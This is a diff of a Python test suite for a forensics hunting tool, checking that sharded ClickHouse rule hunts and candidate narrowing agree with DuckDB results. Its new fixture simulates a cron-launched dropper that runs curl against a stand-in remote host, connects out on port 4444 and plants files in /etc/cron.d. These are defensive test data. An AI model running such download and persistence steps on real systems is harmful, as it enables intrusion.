@@ -2,8 +2,9 @@
 finds what the DuckDB hunt finds on the same history.
 
 The history: forensix.testing.generator's host (daemons, logins, cron, pid reuse, a planted
-intrusion) and forensix.testing.fleet's eight hosts (a miner on some), written to a DuckDB
-store and to the real 2-shard 18.16 cluster. The rules: the curated set, SigmaHQ's Linux
+intrusion), forensix.testing.fleet's eight hosts (a miner on some) and two hosts whose
+dropper runs on three UTC days (``_span``), written to a DuckDB store and to the real
+2-shard 18.16 cluster. The rules: the curated set, SigmaHQ's Linux
 rules the project tests with (tests/rules/fixtures/sigmahq), every operator
 (tests/rules/fixtures/ops) and the modifiers of fixtures/hunt_modifiers.yml; the built-in
 detectors too. The scans also run on current ClickHouse (chdb) and must agree."""
@@ -12,6 +13,7 @@ from __future__ import annotations
 
 import json
 import uuid
+from datetime import datetime
 from pathlib import Path
 from typing import Any
 
@@ -22,24 +24,48 @@ from pyarrow import ipc
 
 from forensix.cli.main import cli
 from forensix.rules import default_detectors, hunt, load_rules
+from forensix.rules import fleet_hunt as fleet_hunt_module
 from forensix.rules.clickhouse_sql import Tables
 from forensix.rules.compile import CompiledRule
-from forensix.rules.fleet_hunt import _scan, fleet_hunt, shard_servers
+from forensix.rules.fleet_hunt import _hunt_shard, _scan, fleet_hunt, shard_servers
 from forensix.store.clickhouse import ClickHouseStore
 from forensix.store.clickhouse.ddl import MIGRATIONS
 from forensix.store.clickhouse.store import stored_table
 from forensix.store.embedded import open_reader, open_writer
 from forensix.testing.clickhouse import Cluster
 from forensix.testing.fleet import fleet
-from forensix.testing.generator import generate
+from forensix.testing.generator import StoreBuilder, generate
 
 RULES = Path(__file__).parent.parent / "rules" / "fixtures"
 MODIFIERS = Path(__file__).parent / "fixtures" / "hunt_modifiers.yml"
+NARROW = Path(__file__).parent / "fixtures" / "hunt_narrow.yml"
+DAY = 86_400
+
+
+def _span(store: Any) -> None:
+    """span01 runs /opt/kit/dropper (from cron) on three UTC days, span02 on the last: it
+    connects out, writes a file and renames it into /etc/cron.d/, and its child curl too."""
+    for name, days in (("span01", (0, 1, 2)), ("span02", (2,))):
+        b = StoreBuilder(host_id=f"{name}-machine-id", host_name=name, boot_id=f"boot-{name}")
+        init = b.spawn(None, 1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"])
+        cron = b.spawn(init, 400, 1, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
+        for d in days:
+            t = d * DAY + 600
+            drop = b.spawn(cron, 3000 + d, t, "/opt/kit/dropper", ["/opt/kit/dropper", "--stage", str(d)],
+                           sha256="0D1E" + "ab" * 30)  # stored as given; the summary keeps it lowered
+            curl = b.spawn(drop, 3100 + d, t + 1, "/usr/bin/curl", ["curl", "-s", "http://198.51.100.23/x"])
+            b.connect(curl, t + 2, ("10.2.0.1", 40000 + d), ("198.51.100.23", 80))
+            b.connect(drop, t + 3, ("10.2.0.1", 45000 + d), ("203.0.113.9", 4444))
+            b.write_file(drop, t + 4, f"/var/tmp/stage{d}", 64)
+            b.rename(drop, t + 5, f"/var/tmp/stage{d}", f"/etc/cron.d/stage{d}")
+            b.file_op(drop, t + 6, "unlink", f"/var/tmp/stage{d}.old")
+        b.write(store)
 
 
 def _write(store: Any) -> None:
     generate(store, events=20_000, seed=3)
     fleet(store, hosts=8, every=3)
+    _span(store)
 
 
 @pytest.fixture(scope="module")
@@ -75,6 +101,9 @@ def test_fleet_hunt_finds_what_the_duckdb_hunt_finds(stores: tuple[str, str]) ->
         got = fleet_hunt(st, rules, default_detectors())
         shard_of = st._shard_of(sorted({str(h) for h in got.alerts.column("host_name").to_pylist()}))
     assert got.fallback == [] and len(got.in_clickhouse) == len(rules) and got.shards == 2
+    # both ways of finding candidates ran: the summaries, and probes of the events' own columns
+    assert {s for _, s in got.narrowed} == {"fleet_exec", "fleet_path", "fleet_ip"}, got.narrowed
+    assert len(got.narrowed) >= 20 and len(got.probed) >= 20
     assert want.num_rows > 300
     assert _plain(got.alerts) == _plain(want)
     fired = set(got.alerts.column("rule_id").to_pylist())
@@ -102,6 +131,92 @@ def test_time_window_and_cli(stores: tuple[str, str]) -> None:
     assert a.count("\n") > 20
     assert docs(a, duck) == docs(b, url)
     assert "rules hunted in ClickHouse on 2 shard(s), 0 over host slices" in err
+    assert "candidate hosts and days from the summaries for " in err
+
+
+def _at(text: str) -> int:
+    return int(datetime.fromisoformat(text).timestamp()) * 10**9
+
+
+# (from, to): everything; days 1 and 2 (2026-09-22, and 09-23 cut before its events); the
+# end of day 0 to the middle of day 1's events (both days cut)
+WINDOWS = [(None, None), (_at("2026-09-22T00:00:00+00:00"), _at("2026-09-23T14:00:00+00:00")),
+           (_at("2026-09-21T14:20:00+00:00"), _at("2026-09-22T14:23:24+00:00"))]
+
+
+def test_candidates_find_what_the_duckdb_hunt_finds_in_every_window(stores: tuple[str, str],
+                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    duck, url = stores
+    rules = load_rules([NARROW], builtin=False).ok
+    fired = []
+    # (a summary's candidates on most of a shard's hosts and days send the rule to a probe instead)
+    monkeypatch.setattr(fleet_hunt_module, "BROAD", 1.0)
+    for lo, hi in WINDOWS:
+        rd = open_reader(duck)
+        try:
+            want = hunt(rd, rules, [], lo, hi)
+        finally:
+            rd.close()
+        with ClickHouseStore(url) as st:
+            got = fleet_hunt(st, rules, [], lo, hi)
+        assert _plain(got.alerts) == _plain(want), (lo, hi)
+        fired.append(sorted({(r["rule_id"], r["host_name"]) for r in got.alerts.to_pylist()}))
+        assert dict(got.narrowed) == {
+            "narrow_image": "fleet_exec", "narrow_none": "fleet_exec", "narrow_parent": "fleet_exec",
+            "narrow_not_cmdline": "fleet_exec", "narrow_sha256": "fleet_exec", "narrow_target": "fleet_path",
+            "narrow_path_action": "fleet_path", "narrow_ip": "fleet_ip"}
+        assert {r for r, _ in got.probed} == {"probe_parent_only", "probe_not_target", "probe_port"}
+    whole, days12, cut = fired
+    for rule in ("narrow_image", "narrow_parent", "narrow_not_cmdline", "narrow_sha256", "narrow_target",
+                 "narrow_path_action", "narrow_ip", "probe_parent_only", "probe_port"):
+        assert (rule, "span02") in whole, rule
+    assert not any(r == "narrow_none" for r, _ in whole)
+    assert ("narrow_ip", "host0000") in whole  # the fleet's miner, from the same summary
+    # day 1 is span01's alone, and its "--stage 1" is what narrow_not_cmdline leaves out
+    assert {h for _, h in days12} == {"span01"} and ("narrow_not_cmdline", "span01") not in days12
+    assert ("narrow_image", "span01") in cut
+    # every rule with candidates sent to a probe as "broad": the same alerts
+    monkeypatch.setattr(fleet_hunt_module, "BROAD", 0.0)
+    with ClickHouseStore(url) as st:
+        broad = fleet_hunt(st, rules, [])
+    assert dict(broad.narrowed) == {"narrow_none": "fleet_exec"}
+    assert "fleet_ip: candidates on more than 0% of its hosts and days" in dict(broad.probed)["narrow_ip"]
+    assert sorted({(r["rule_id"], r["host_name"]) for r in broad.alerts.to_pylist()}) == whole
+    # and the whole scans of before (what the benchmark compares with): the same alerts again
+    with ClickHouseStore(url) as st:
+        assert _plain(fleet_hunt(st, rules, [], narrow=False).alerts) == _plain(broad.alerts)
+
+
+def test_a_rule_without_candidates_costs_one_summary_query(stores: tuple[str, str],
+                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    _, url = stores
+    monkeypatch.setattr(fleet_hunt_module, "BROAD", 1.0)  # the window's days are all span's: kept narrowed
+    rules = load_rules([NARROW], builtin=False).ok
+    by_name = {r.rule_id: r for r in rules}
+    with ClickHouseStore(url) as st:
+        none = fleet_hunt(st, [by_name["narrow_none"]])
+        image = fleet_hunt(st, [by_name["narrow_image"]])
+        window = fleet_hunt(st, [by_name["narrow_image"]], [], *WINDOWS[1])
+    assert none.alerts.num_rows == 0 and none.scans == 0 and none.candidates == 0
+    # span01 on three days, span02 on one: the exact rule read those four host-days only
+    assert image.candidates == 4 and image.scans == 1 and image.alerts.num_rows > 0
+    # days 1 and 2 of the window (day 2 in part): span01 twice, span02 once; the scan cuts day 2
+    assert window.candidates == 3 and {r["host_name"] for r in window.alerts.to_pylist()} == {"span01"}
+
+
+def test_the_plan_follows_coverage() -> None:
+    from forensix.rules.candidates import SUMMARY_VIEWS, plan
+
+    have = {v.name: v.columns for v in SUMMARY_VIEWS}
+    rules = {r.rule_id: r for r in load_rules([NARROW], builtin=False).ok}
+    assert plan(rules["narrow_image"], have).summary == "fleet_exec"
+    # a store whose summary lacks a column it needs (or has none): the events are probed, named
+    lacking = plan(rules["narrow_image"], {"fleet_exec": have["fleet_exec"] - {"command_line"}})
+    assert lacking.summary is None and "fleet_exec: the summary lacks command_line" in lacking.why
+    assert "fleet_exec: the store has no such summary" in plan(rules["narrow_image"], {}).why
+    assert "it tests nothing fleet_exec holds" in plan(rules["probe_parent_only"], have).why
+    assert "fleet_path: it can match an event without a path" in plan(rules["probe_not_target"], have).why
+    assert "fleet_ip: it can match a connection without an address" in plan(rules["probe_port"], have).why
 
 
 def test_a_rule_clickhouse_cannot_say_is_named_and_the_others_run(stores: tuple[str, str], tmp_path: Path) -> None:
@@ -111,7 +226,7 @@ def test_a_rule_clickhouse_cannot_say_is_named_and_the_others_run(stores: tuple[
                    "detection:\n  sel:\n    process.args|contains: pool\n  condition: sel\n")
     r = CliRunner().invoke(cli, ["hunt", str(bad), str(MODIFIERS), "--no-builtin", "--store", url,
                                  "--format", "json"])
-    assert r.exit_code == 0, (r.output, r.exception)
+    assert r.exit_code == 3, (r.output, r.exception)  # a rule was skipped (rules.hunt, as on DuckDB)
     assert "on_args: a test on the list/binary column process_args" in r.stderr
     # DuckDB cannot run it either: named, and the hunt goes on
     assert "skipped on_args: it fails over the slices too" in r.stderr
@@ -132,8 +247,19 @@ class Chdb:
         pass
 
 
-def test_the_scans_agree_on_18_16_and_current_clickhouse(stores: tuple[str, str], tmp_path: Path) -> None:
+def _matches(tables: Any) -> list[str]:
+    """(row, rule) pairs of scans' rows: how rules are grouped into scans differs by server."""
+    out = []
+    for t in tables:
+        for r in t.to_pylist():
+            out += [str({**r, "fx_rules": i}) for i in r["fx_rules"]]
+    return sorted(out)
+
+
+def test_the_scans_agree_on_18_16_and_current_clickhouse(stores: tuple[str, str], tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
     chdb_session = pytest.importorskip("chdb.session")
+    monkeypatch.setattr(fleet_hunt_module, "BROAD", 1.0)  # one server here, two shards there: other shares
     _, url = stores
     rules = _rules()
     sess = chdb_session.Session(str(tmp_path / "chdb"))
@@ -154,6 +280,17 @@ def test_the_scans_agree_on_18_16_and_current_clickhouse(stores: tuple[str, str]
                 old, new = _scan(old_servers, chunk, None, None), _scan(new_server, chunk, None, None)
                 assert old.num_rows > 0
                 assert sorted(map(str, old.to_pylist())) == sorted(map(str, new.to_pylist()))
+            # the candidates (summaries, probes) and the narrowed scans, in a window that cuts days
+            # (the operators' SQL is the scans' above: these rules take every way of candidates)
+            narrow = load_rules([RULES / "sigmahq", MODIFIERS, NARROW]).ok
+            for lo, hi in WINDOWS[2:]:
+                olds = [_hunt_shard(srv, tables, narrow, lo, hi) for srv, tables in old_servers]
+                new_shard = _hunt_shard(*new_server[0], narrow, lo, hi)
+                assert [p.summary for p in new_shard.plans] == [p.summary for p in olds[0].plans]
+                assert sum(p.summary is not None for p in new_shard.plans) >= 20
+                old_rows = _matches(t for sh in olds for t in sh.rows)
+                assert old_rows and old_rows == _matches(new_shard.rows)
+                assert new_shard.candidates == sum(sh.candidates for sh in olds)
             for srv, _ in old_servers:
                 srv.close()
     finally:
